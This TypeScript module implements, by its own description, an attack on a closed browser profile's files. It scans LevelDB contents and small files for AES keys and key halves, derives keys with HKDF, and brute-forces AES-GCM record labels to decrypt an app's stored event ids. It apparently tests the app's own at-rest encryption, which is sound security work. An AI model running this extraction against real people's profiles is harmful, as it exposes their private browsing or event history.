/** The attack of somebody who has a closed profile's files: finds keys and records in them, and decrypts. */
import { createDecipheriv, createHash, hkdfSync } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { levelDbContents, Varints } from './leveldb.ts';

const [HALF, IV, TAG] = [32, 12, 16];
/** The highest key of a record that is tried. */
const MAX_KEY = 200;
/** Files of more bytes hold no half of a key: the browser's own databases and caches. */
const MAX_FILE = 2 ** 16;

/** How V8 writes an own property's name before its value, and `ArrayBuffer` before its length. */
const property = (name: string) => Buffer.from([0x22, name.length, ...Buffer.from(name)]);
const [ARRAY_BUFFER, COMMON_KEY] = [0x42, Buffer.from([0x5c, 0x4b])];

interface Found {
  readonly keys: readonly Buffer[];
  readonly digests: ReadonlySet<string>;
  readonly records: readonly { readonly iv: Buffer; readonly data: Buffer }[];
}

/** What of a profile's history could be read. */
export interface Loot {
  /** The ids of the events, each once. */
  readonly ids: readonly string[];
  /** How many keys, records and other halves were found. */
  readonly keys: number;
  readonly records: number;
  readonly halves: number;
}

export async function decryptProfile(folder: string): Promise<Loot> {
  const { keys, digests, records } = findIn(await levelDbContents(folder));
  const halves = await halvesIn(folder, digests);
  const sealingKeys = keys.flatMap((key) =>
    [Buffer.alloc(HALF), ...halves].map((half) =>
      Buffer.from(hkdfSync('sha256', key, half, 'vitrine events', HALF)),
    ),
  );
  const ids = new Set<string>();
  for (const record of records)
    for (const key of sealingKeys) for (const id of idsOf(key, record)) ids.add(id);
  return { ids: [...ids], keys: keys.length, records: records.length, halves: halves.length };
}

function findIn(contents: readonly Buffer[]): Found {
  const keys = new Map<string, Buffer>();
  const digests = new Set<string>();
  const records: Found['records'][number][] = [];
  for (const bytes of contents) {
    for (const at of places(bytes, COMMON_KEY)) {
      const numbers = new Varints(bytes, at + COMMON_KEY.length);
      numbers.skip(3); // the kind of key, the algorithm, and what it may be used for
      if (numbers.next() !== HALF) continue;
      const key = bytes.subarray(numbers.at, numbers.at + HALF);
      keys.set(key.toString('hex'), key);
    }
    for (const at of places(bytes, property('digest'))) {
      const digest = bufferAt(bytes, at + 8);
      if (digest) digests.add(digest.toString('hex'));
    }
    for (const at of places(bytes, property('iv'))) {
      const iv = bufferAt(bytes, at + 4);
      const after = bytes.indexOf(property('data'), at);
      const data = after > 0 && after < at + 64 ? bufferAt(bytes, after + 6) : undefined;
      if (iv?.length === IV && data) records.push({ iv, data });
    }
  }
  return { keys: [...keys.values()], digests, records };
}

function* places(bytes: Buffer, wanted: Buffer): Iterable<number> {
  for (let at = bytes.indexOf(wanted); at >= 0; at = bytes.indexOf(wanted, at + 1)) yield at;
}

function bufferAt(bytes: Buffer, at: number): Buffer | undefined {
  if (bytes[at] !== ARRAY_BUFFER) return undefined;
  const numbers = new Varints(bytes, at + 1);
  const length = numbers.next();
  return bytes.subarray(numbers.at, numbers.at + length);
}

/** Every 32 bytes, at any place of any small file, whose digest is one of those found. */
async function halvesIn(folder: string, digests: ReadonlySet<string>): Promise<Buffer[]> {
  const halves: Buffer[] = [];
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const bytes = await readFile(join(entry.parentPath, entry.name));
    if (bytes.length > MAX_FILE) continue;
    for (let at = 0; at + HALF <= bytes.length; at++) {
      const half = bytes.subarray(at, at + HALF);
      if (digests.has(createHash('sha256').update(half).digest('hex'))) halves.push(half);
    }
  }
  return halves;
}

function idsOf(key: Buffer, { iv, data }: Found['records'][number]): string[] {
  for (let recordKey = 1; recordKey <= MAX_KEY; recordKey++) {
    const decipher = createDecipheriv('aes-256-gcm', key, iv);
    decipher.setAAD(Buffer.from(`vitrine events ${recordKey}`));
    decipher.setAuthTag(data.subarray(-TAG));
    const text = decipher.update(data.subarray(0, -TAG));
    try {
      decipher.final();
    } catch {
      continue;
    }
    return (JSON.parse(text.toString()) as { ids: (string | string[])[] }).ids.flat();
  }
  return [];
}
